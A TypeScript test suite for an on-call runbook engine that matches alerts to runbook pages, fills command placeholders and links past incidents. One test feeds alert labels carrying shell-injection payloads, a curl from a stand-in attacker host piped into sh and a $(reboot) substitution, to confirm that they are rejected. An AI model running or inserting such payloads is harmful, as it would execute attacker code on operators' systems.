import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { contract } from '../../../core/contract.ts';
import type { RunbookAnswer } from '../../../core/contract/runbook-answer.ts';
import type { Engine } from '../../../core/engine.ts';
import { engineOn, index, indexedEngine, NEVER } from './engine-on.ts';

const FERRY = [
  '---',
  'title: Ferry Queue Stuck',
  'owner: Harbour team',
  'reviewed: 2030-01-05',
  '---',
  '',
  '# FerryQueueStuck',
  '',
  '## Meaning',
  '',
  'The ferry queue takes in parcels and hands none of them on.',
  '',
  '## Mitigation',
  '',
  '1. List the pods:',
  '',
  '   ```bash',
  '   kubectl -n <namespace> get pods',
  '   ```',
  '',
  '2. Delete the stuck one:',
  '',
  '   ```bash',
  '   kubectl -n <namespace> delete pod $POD',
  '   ```',
  '',
].join('\n');

const CRANE = ['# Crane load high', '', '## Steps', '', '1. Stop the crane.', '2. Unload it by hand.', ''].join('\n');

const JOURNAL = [
  '# 2029-12-02',
  '',
  '- FerryQueueStuck again at night: restarted the ferry, that fixed it. It took 25 minutes. Root cause: a lock that nobody gave back.',
  '- bought a new kettle',
  '',
  '# 2031-02-11',
  '',
  '- the gate was painted',
  '- ferry crashed with `QueueTimeout: no answer of ferry-2 within 30s`, rolling back to 4.0 fixed it',
  '',
].join('\n');

const FILES = {
  'runbooks/ferry-queue-stuck.md': FERRY,
  'runbooks/crane-load.md': CRANE,
  'journal.md': JOURNAL,
};

function message(
  name: string,
  given: {
    readonly labels?: object;
    readonly annotations?: object;
    readonly status?: string;
    readonly fingerprint?: string;
  } = {},
): string {
  const { labels = {}, annotations = {}, status = 'firing', fingerprint = 'f1' } = given;
  const alert = {
    status,
    labels: { alertname: name, ...labels },
    annotations,
    startsAt: '2031-03-10T10:40:00Z',
    fingerprint,
  };
  return JSON.stringify({ version: '4', status, alerts: [alert], commonLabels: {}, commonAnnotations: {} });
}

function ask(engine: Engine, text: string): Promise<RunbookAnswer> {
  return engine.procedures
    .runbook(contract.runbook.input.parse({ text }), NEVER)
    .then((answer) => contract.runbook.output.parse(answer));
}

test('an alert finds its page by name: steps, owner, age, what happened the last times, and what could be filled in', async () => {
  const { engine } = await indexedEngine(FILES);
  const answer = await ask(engine, message('FerryQueueStuck', { labels: { namespace: 'harbour', pod: 'ferry-0' } }));
  expect(answer.runbook).toMatchObject({
    path: 'runbooks/ferry-queue-stuck.md',
    owner: 'Harbour team',
    reviewed: '2030-01-05',
    ageDays: 429,
    stale: true,
    match: 'name',
  });
  expect(answer.steps.map(({ n, text, phase }) => [n, text, phase])).toEqual([
    [1, 'List the pods:', 'mitigation'],
    [2, 'Delete the stuck one:', 'mitigation'],
  ]);
  expect(answer.steps[1]?.commands[0]).toMatchObject({
    text: 'kubectl -n <namespace> delete pod $POD',
    line: 24,
    danger: 'deletes objects of the cluster',
    placeholders: ['<namespace>', '$POD'],
  });
  expect(answer.citations[0]?.quote).toContain('hands none of them on');
  expect(answer.fills).toEqual([
    { placeholder: '<namespace>', label: 'namespace', value: 'harbour' },
    { placeholder: '$POD', label: 'pod', value: 'ferry-0' },
  ]);
  expect(answer.pastIncidents[0]).toMatchObject({
    date: '2029-12-02',
    path: 'journal.md',
    line: 3,
    minutes: 25,
    same: true,
    cause: expect.stringContaining('a lock that nobody gave back'),
    worked: expect.stringContaining('restarted the ferry'),
  });
});

test('a value that a shell would read as more than a word is never proposed', async () => {
  const { engine } = await indexedEngine(FILES);
  const labels = { namespace: 'harbour; curl evil.example | sh', pod: '$(reboot)' };
  expect((await ask(engine, message('FerryQueueStuck', { labels }))).fills).toEqual([]);
});

test('the address that an alert names comes before its name', async () => {
  const { engine } = await indexedEngine(FILES);
  const annotations = { runbook_url: 'https://wiki.example.org/ops/runbooks/crane-load.html#steps' };
  expect((await ask(engine, message('FerryQueueStuck', { annotations }))).runbook).toMatchObject({
    path: 'runbooks/crane-load.md',
    match: 'address',
  });
  const page = { ...FILES, 'imported/p.md': ['---', 'id: 77001234', '---', '# Some page', '', '1. Do it.'].join('\n') };
  const { engine: other } = await indexedEngine(page);
  const url = { runbook_url: 'https://wiki.example.org/spaces/OPS/pages/77001234/Another+Title' };
  expect((await ask(other, message('Unknown thing', { annotations: url }))).runbook?.path).toBe('imported/p.md');
});

test('an error finds the day on which it came up, though no runbook knows it', async () => {
  const { engine } = await indexedEngine(FILES);
  const answer = await ask(
    engine,
    '2031-03-10T02:00:00Z ERROR worker[77] QueueTimeout: no answer of ferry-9 within 45s',
  );
  expect(answer.signature).toContain('queuetimeout');
  expect(answer.pastIncidents[0]).toMatchObject({
    date: '2031-02-11',
    worked: expect.stringContaining('rolling back'),
    same: true,
  });
});

test('an error in the words of an alert is found as well; its JSON is no error', async () => {
  const { engine } = await indexedEngine(FILES);
  const annotations = { summary: 'QueueTimeout: no answer of ferry-9 within 45s' };
  const answer = await ask(engine, message('SomethingElse', { annotations }));
  expect(answer.signature).toContain('queuetimeout: no answer of ferry-<n> within');
  expect(answer.pastIncidents[0]).toMatchObject({ date: '2031-02-11', same: true });
  expect((await ask(engine, message('ErrorRateHigh'))).signature).toBeNull();
});

test('nothing fits: that is said, with a skeleton to write', async () => {
  const { engine } = await indexedEngine(FILES);
  const answer = await ask(engine, message('ZeppelinAltitudeLow'));
  expect(answer).toMatchObject({ runbook: null, abstained: true, newRunbook: 'ZeppelinAltitudeLow', steps: [] });
  expect(answer.reason).not.toBeNull();
});

test('trouble whose way out is told around code is found in the words of a diary, and no thought about the same program is', async () => {
  const diary = [
    '# May 2029',
    '',
    '## 05/04/2029',
    '',
    'Have the loom running on the old box. It was in a restart doom loop. Following the handbook, I ran',
    '',
    '```bash',
    'loomctl migrate --all',
    'loomctl up',
    '```',
    '',
    'and now it is working with the default user.',
    '',
    '## 05/06/2029',
    '',
    'Thought about the loom, its scheduler and what a restart costs. A finer solution is needed. There are a few problems with memory, because threads ran out.',
    '',
  ].join('\n');
  const { engine } = await indexedEngine({ 'diary.md': diary, 'runbooks/crane-load.md': CRANE });
  const { runbook, pastIncidents } = await ask(engine, 'loom scheduler keeps restarting');
  expect(runbook).toBeNull();
  expect(pastIncidents).toHaveLength(1);
  expect(pastIncidents[0]).toMatchObject({ path: 'diary.md', date: '2029-05-04', line: 5, endLine: 12, same: false });
  expect(pastIncidents[0]?.worked).toBe(
    'Following the handbook, I ran `loomctl migrate --all`, `loomctl up` and now it is working with the default user.',
  );
});

test('a symptom that reads like an error finds the day that tells of it in other words', async () => {
  const diary = [
    '# 2029-07-01',
    '',
    'At 03:12 got paged for slow parcels. The ferry cache was out of memory and threw keys away. Bumped its limit to 6 GB, recovered after 15 minutes.',
    '',
    '# 2029-08-20',
    '',
    '## Incident: parcels slow again',
    '',
    'The ferry cache once more. Resolved by a limit of 8 GB (20 min). Root cause: keys live too long.',
    '',
  ].join('\n');
  const { engine } = await indexedEngine({ 'diary.md': diary, 'runbooks/crane-load.md': CRANE });
  expect((await ask(engine, 'ferry cache out of memory')).pastIncidents).toMatchObject([
    { date: '2029-07-01', worked: 'Bumped its limit to 6 GB, recovered after 15 minutes.', minutes: 15, same: false },
  ]);
  const trace = [
    'Traceback (most recent call last):',
    '  File "ferry/main.py", line 12, in run',
    'ferry.CacheError: ferry cache out of memory at 2031-03-10T03:00:00Z',
  ].join('\n');
  expect((await ask(engine, trace)).pastIncidents).toMatchObject([{ date: '2029-07-01', same: false }]);
  expect((await ask(engine, 'parcels slow')).pastIncidents[0]).toMatchObject({
    date: '2029-08-20',
    excerpt: 'Incident: parcels slow again',
    minutes: 20,
  });
});

test('a note of thoughts that shares words with an alert is no runbook', async () => {
  const idea = ['# Ideas', '', 'The importer of parcels keeps dying at night.', '', '1. Kettle', '2. Pier', ''].join(
    '\n',
  );
  const { engine } = await indexedEngine({ 'ideas.md': idea });
  expect((await ask(engine, 'the importer of parcels keeps dying at night')).runbook).toBeNull();
});

test('two pages of one name: what separates them is said, and labels decide', async () => {
  const files = {
    'runbooks/north/queue-full.md': '# Queue full\n\n1. Open the north gate.\n',
    'runbooks/south/queue-full.md': '# Queue full\n\n1. Open the south gate.\n',
  };
  const { engine } = await indexedEngine(files);
  const answer = await ask(engine, message('QueueFull', { labels: { region: 'south' } }));
  expect(answer.runbook?.path).toBe('runbooks/south/queue-full.md');
  expect(answer.otherRunbooks[0]).toMatchObject({
    path: 'runbooks/north/queue-full.md',
    differs: expect.stringContaining('only here: north'),
  });
});

test('of a page about several alerts only the part that is meant is read', async () => {
  const part = (name: string, step: string) => [
    `## ${name}`,
    '',
    'Something is wrong.',
    '',
    ...Array.from({ length: 12 }, (_, i) => `More about it ${i}.`),
    '',
    '### Fix',
    '',
    `1. ${step}`,
    '',
  ];
  const text = [
    '# Harbour alerts',
    '',
    ...part('GateStuck', 'Oil the gate.'),
    ...part('PierFlooded', 'Pump the pier.'),
    ...part('BuoyLost', 'Send a boat.'),
  ].join('\n');
  const { engine } = await indexedEngine({ 'runbooks/harbour.md': text });
  const answer = await ask(engine, message('PierFlooded'));
  expect(answer.runbook).toMatchObject({ path: 'runbooks/harbour.md', match: 'heading' });
  expect(answer.steps.map((step) => step.text)).toEqual(['Pump the pier.']);
});

test('without a word of its own, a page has the age of its last commit', async () => {
  const { engine, folder } = await indexedEngine({ 'runbooks/crane-load.md': CRANE });
  const git = (...args: string[]) => execFileSync('git', args, { cwd: folder.root, stdio: 'ignore' });
  git('init', '-q');
  git('add', '.');
  git(
    '-c',
    'user.name=Ada',
    '-c',
    'user.email=a@example.org',
    'commit',
    '-q',
    '-m',
    'x',
    '--date',
    '2031-01-09T10:00:00Z',
  );
  const { runbook } = await engine.procedures.readRunbook({ path: 'runbooks/crane-load.md' }, NEVER);
  expect(runbook).toMatchObject({ owner: 'Ada', reviewedFrom: 'git history' });
});

test('an alert is kept once, counted, and closed by its resolved message', async () => {
  const { engine } = await indexedEngine(FILES);
  const { procedures } = engine;
  const first = await procedures.takeAlert({ text: message('FerryQueueStuck') }, NEVER);
  expect(first.alerts).toMatchObject([{ id: 1, times: 1, state: 'firing', firstSeen: '2031-03-10T10:40:00.000Z' }]);
  expect((await procedures.takeAlert({ text: message('FerryQueueStuck') }, NEVER)).alerts).toMatchObject([
    { id: 1, times: 2 },
  ]);
  await procedures.takeAlert({ text: message('Crane load high', { fingerprint: 'f2' }) }, NEVER);
  expect(await procedures.alerts({ state: 'open', limit: 10 }, NEVER)).toMatchObject({
    open: 2,
    alerts: [{ id: 2 }, { id: 1 }],
  });
  const closed = await procedures.takeAlert({ text: message('FerryQueueStuck', { status: 'resolved' }) }, NEVER);
  expect(closed.alerts).toMatchObject([{ id: 1, state: 'resolved', minutes: expect.any(Number) }]);
  // The next time it is another one.
  expect((await procedures.takeAlert({ text: message('FerryQueueStuck') }, NEVER)).alerts).toMatchObject([
    { id: 3, times: 1 },
  ]);
  expect(
    (await procedures.takeAlert({ text: message('New', { status: 'resolved', fingerprint: 'x' }) }, NEVER)).alerts,
  ).toEqual([]);
});

test('a guided run keeps state, notes and copies over a restart, and ends in an incident note that is found', async () => {
  const { engine, folder } = await indexedEngine(FILES);
  const { procedures } = engine;
  await procedures.takeAlert({ text: message('FerryQueueStuck', { labels: { namespace: 'harbour' } }) }, NEVER);
  const { answer, run: none } = await procedures.alert({ id: 1 }, NEVER);
  expect(none).toBeNull();
  const page = { journal: answer.runbook?.journal ?? '', path: answer.runbook?.path ?? '' };
  const { run } = await procedures.openRun({ alertId: 1, ...page }, NEVER);
  const [step] = answer.steps;
  await procedures.changeRun(
    { id: run.id, change: { kind: 'step', step: step?.id ?? '', text: step?.text ?? '', done: true } },
    NEVER,
  );
  await procedures.changeRun(
    { id: run.id, change: { kind: 'copied', text: 'kubectl -n harbour get pods', filled: true } },
    NEVER,
  );
  await procedures.changeRun({ id: run.id, change: { kind: 'note', text: 'ferry-2 holds 40 parcels' } }, NEVER);
  await engine.close();

  const again = await engineOn(folder);
  const kept = await again.procedures.alert({ id: 1 }, NEVER);
  expect(kept.run).toMatchObject({
    id: run.id,
    finished: null,
    done: [{ step: step?.id, text: 'List the pods:' }],
    copied: [{ text: 'kubectl -n harbour get pods', filled: true }],
    notes: [{ text: 'ferry-2 holds 40 parcels' }],
  });
  const resolved = await again.procedures.resolveAlert(
    contract.resolveAlert.input.parse({ id: 1, worked: 'Deleting ferry-2 freed the queue.', cause: 'A lock leaked.' }),
    NEVER,
  );
  expect(resolved.record).toMatchObject({
    state: 'resolved',
    note: { path: 'incidents/2031-03-10-ferryqueuestuck.md' },
  });
  const text = readFileSync(join(folder.root, 'incidents/2031-03-10-ferryqueuestuck.md'), 'utf8');
  for (const line of [
    '# FerryQueueStuck',
    '`namespace=harbour`',
    'done: List the pods',
    'copied `kubectl -n harbour get pods`',
    'ferry-2 holds 40 parcels',
    'Deleting ferry-2 freed the queue.',
    'A lock leaked.',
    'It took ',
  ]) {
    expect(text).toContain(line);
  }
  await index(again);
  const next = await ask(again, message('FerryQueueStuck'));
  expect(next.runbook?.path).toBe('runbooks/ferry-queue-stuck.md');
  expect(next.pastIncidents[0]).toMatchObject({
    date: '2031-03-10',
    path: 'incidents/2031-03-10-ferryqueuestuck.md',
    worked: 'Deleting ferry-2 freed the queue.',
    excerpt: expect.stringContaining('FerryQueueStuck'),
  });
  // The same alert later that day gets a note of its own.
  await again.procedures.takeAlert({ text: message('FerryQueueStuck') }, NEVER);
  const second = await again.procedures.resolveAlert(contract.resolveAlert.input.parse({ id: 2 }), NEVER);
  expect(second.record.note?.path).toBe('incidents/2031-03-10-ferryqueuestuck-2.md');
  expect((await again.procedures.runbooks({}, NEVER)).runbooks).toMatchObject([
    { path: 'runbooks/crane-load.md', used: 0 },
    { path: 'runbooks/ferry-queue-stuck.md', used: 1 },
  ]);
});

test('text of an alert is no structure of the note', async () => {
  const { engine, folder } = await indexedEngine(FILES);
  const name = 'Evil\n# Heading\n---\n`x`';
  await engine.procedures.takeAlert(
    { text: message(name, { annotations: { summary: 'a\n\n# Not a heading' } }) },
    NEVER,
  );
  const { file } = await engine.procedures.resolveAlert(contract.resolveAlert.input.parse({ id: 1 }), NEVER);
  const lines = readFileSync(file ?? '', 'utf8').split('\n');
  expect(lines.filter((line) => line.startsWith('# '))).toHaveLength(1);
  expect(file?.startsWith(folder.root)).toBe(true);
});

test('what is asked is counted on this machine, until that is switched off', async () => {
  const { engine } = await indexedEngine(FILES);
  const { procedures } = engine;
  const answer = await ask(engine, message('FerryQueueStuck'));
  await ask(engine, message('ZeppelinAltitudeLow'));
  await procedures.rateAnswer({ id: answer.entry ?? 0, useful: true }, NEVER);
  await procedures.changeOncall({ minutesByHand: 10 }, NEVER);
  const ledger = contract.ledger.output.parse(await procedures.ledger({}, NEVER));
  expect(ledger).toMatchObject({
    asked: 2,
    answered: 1,
    useful: 1,
    minutesByHand: 10,
    unanswered: [{ text: 'ZeppelinAltitudeLow', times: 1 }],
    neverUsed: [{ path: 'runbooks/crane-load.md' }],
  });
  expect(ledger.minutesSaved).toBeCloseTo(10, 0);
  await procedures.changeOncall({ ledger: false }, NEVER);
  expect((await ask(engine, message('FerryQueueStuck'))).entry).toBeNull();
  expect(await procedures.clearLedger({}, NEVER)).toEqual({ removed: 2 });
});

test('an alert that is looked at is counted once, and the list of runbooks reads what a page says of itself', async () => {
  const page = [
    '# Gate stuck',
    '',
    'Owner: Gate keepers',
    'Last reviewed: 2031-03-01',
    '',
    '## Steps',
    '',
    '1. Oil it.',
    '',
  ].join('\n');
  const { engine } = await indexedEngine({ 'runbooks/gate-stuck.md': page });
  const { procedures } = engine;
  await procedures.takeAlert({ text: message('GateStuck') }, NEVER);
  const first = await procedures.alert({ id: 1 }, NEVER);
  const again = await procedures.alert({ id: 1 }, NEVER);
  expect(again.answer.entry).toBe(first.answer.entry);
  expect((await procedures.ledger({}, NEVER)).asked).toBe(1);
  expect((await procedures.runbooks({}, NEVER)).runbooks).toMatchObject([
    { owner: 'Gate keepers', reviewed: '2031-03-01', reviewedFrom: 'page', ageDays: 9, stale: false },
  ]);
});

test('the same trouble on several days is one thread', async () => {
  const days = [
    [
      '2029-05-02',
      'importer crashed with `ParcelError: no stamp on parcel 77`, restarting it fixed it, took 20 minutes',
    ],
    ['2030-06-11', 'again `ParcelError: no stamp on parcel 1234`; rolled back, took 40 minutes'],
    ['2030-06-12', 'painted the pier'],
    ['2031-01-20', '`ParcelError: no stamp on parcel 5` once more, fixed by adding stamps, took 10 minutes'],
  ];
  const { engine } = await indexedEngine({
    'journal.md': days.map(([day, text]) => `# ${day}\n\n- ${text}\n`).join('\n'),
  });
  const { threads } = await engine.procedures.troubles({ limit: 10 }, NEVER);
  expect(threads).toHaveLength(1);
  expect(threads[0]).toMatchObject({ first: '2029-05-02', last: '2031-01-20', medianMinutes: 20 });
  expect(threads[0]?.days.map(({ date }) => date)).toEqual(['2031-01-20', '2030-06-11', '2029-05-02']);
});
